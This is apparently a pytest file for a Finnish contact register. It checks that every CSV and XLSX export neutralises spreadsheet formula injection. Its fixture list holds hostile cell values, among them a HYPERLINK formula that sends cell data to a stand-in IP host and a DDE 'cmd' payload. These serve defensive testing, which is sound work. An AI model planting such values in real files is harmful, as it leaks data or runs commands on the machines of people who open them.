"""Issue #15 §2: no export lets a spreadsheet run register text as a formula. Every CSV and XLSX
the register writes is opened (csv / openpyxl) and no cell may start with =, +, -, @, tab or CR.

On f5bb249 the contacts export, the portability CSV, the rejected-rows file and the processor
record wrote such values as they were (only `kp record` neutralised them).
"""
from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest

from kpcore import contacts as kc
from kpcore import imports, processor_record, record, sar
from kpcore.safety import FORMULA_START

EVIL = ['=HYPERLINK("http://203.0.113.1/?x="&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=2"]


def _cells_csv(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    delim = ";" if text.split("\n", 1)[0].count(";") > text.split("\n", 1)[0].count(",") else ","
    return [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=delim) for c in row]


def _cells_xlsx(data: bytes) -> list:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    out = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{c.coordinate} is a formula: {c.value!r}"
                out.append(c.value)
    return out


def _no_formula(cells, must_contain: str, *, typed: bool = False):
    """No cell a formula. A CSV cell is text only if it does not start like one; an XLSX cell
    is typed (_cells_xlsx checks no cell is of formula type), so there only the type counts."""
    bad = [] if typed else [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_START)]
    assert not bad, bad
    assert any(isinstance(c, str) and must_contain in c for c in cells), "the hostile value is not in the export"


@pytest.fixture
def evil(reg):
    today = dt.date.today()
    with reg.write("test", "test.evil") as w:
        for i, v in enumerate(EVIL):
            w.sql("INSERT INTO contact (email, name, organisation, title) VALUES (?, ?, ?, ?)", [f"e{i}@x.fi", v, v, v])
            cid = w.sql("SELECT max(id) FROM contact").fetchall()[0][0]
            w.sql("INSERT INTO contact_purpose (contact_id, purpose, source, collected_on) VALUES (?, 'sales_marketing', "
                  "'public', ?)", [cid, today])
        w.sql("UPDATE purpose SET name_fi = ?, name_en = ? WHERE key = 'expert_admin'", [EVIL[0], EVIL[3]])
        w.sql("INSERT INTO customer (name, address) VALUES (?, ?)", [EVIL[0], EVIL[1]])
        kid = w.sql("SELECT max(id) FROM customer").fetchall()[0][0]
        w.sql("INSERT INTO processor_engagement (customer_id, system, vendor, service_fi, service_en, starts_on) "
              "VALUES (?, ?, ?, ?, ?, ?)", [kid, EVIL[3], EVIL[2], EVIL[0], EVIL[0], today])
    return reg


def test_the_contacts_export(evil):
    with evil.read() as q:
        body, n = kc.export_csv(q, kc.Filters())
    assert n == len(EVIL)
    _no_formula(_cells_csv(body), "HYPERLINK")


def test_the_portability_csv(evil):
    with evil.read() as q:
        data = sar.portability_csv(q, "e0@x.fi")
    _no_formula(_cells_csv(data), "HYPERLINK")


def test_the_rejected_rows_file(reg):
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["email", "name", "organisation", "purpose", "source", "collected_at"])
    for i, v in enumerate(EVIL[:4]):  # invalid (no email), holding a formula in name and organisation
        w.writerow([f"bad{i}", v, v, "sales_marketing", "public", "2026-01-05"])
    w.writerow(["=1+1", "Ok", "Org", "sales_marketing", "public", "2026-01-05"])
    w.writerow(["ok@x.fi", "Ok", "Org", "sales_marketing", "public", "2026-01-05"])
    res = imports.import_file(reg, buf.getvalue().encode(), actor="t", filename="x.csv", skip_invalid=True,
                              dry_run=True)
    assert res.rejected == 5 and res.people == 1
    _no_formula(_cells_csv(res.rejected_data), "HYPERLINK")


@pytest.mark.parametrize("lang", ["fi", "en"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_record_of_processing(evil, fmt, lang):
    with evil.read() as q:
        data = record.controller_record(q, fmt, lang)
    cells = _cells_csv(data) if fmt == "csv" else _cells_xlsx(data)
    _no_formula(cells, "HYPERLINK" if lang == "fi" else "SUM(A1:A9)", typed=fmt == "xlsx")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_processor_record(evil, fmt):
    with evil.read() as q:
        data = processor_record.record_csv(q, "fi") if fmt == "csv" else processor_record.record_xlsx(q, "fi")
    cells = _cells_csv(data) if fmt == "csv" else _cells_xlsx(data)
    _no_formula(cells, "HYPERLINK", typed=fmt == "xlsx")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_marketing_list(evil, fmt):
    from kpcore import marketing

    with evil.write("test", "test.basis") as w:  # reachable by email in their work role
        w.sql("UPDATE contact_purpose SET marketing_basis = 'work_role' WHERE purpose = 'sales_marketing'")
    with evil.read() as q:
        data, n = marketing.list_file(q, fmt)
    assert n == len(EVIL)
    cells = _cells_csv(data) if fmt == "csv" else _cells_xlsx(data)
    _no_formula(cells, "HYPERLINK", typed=fmt == "xlsx")
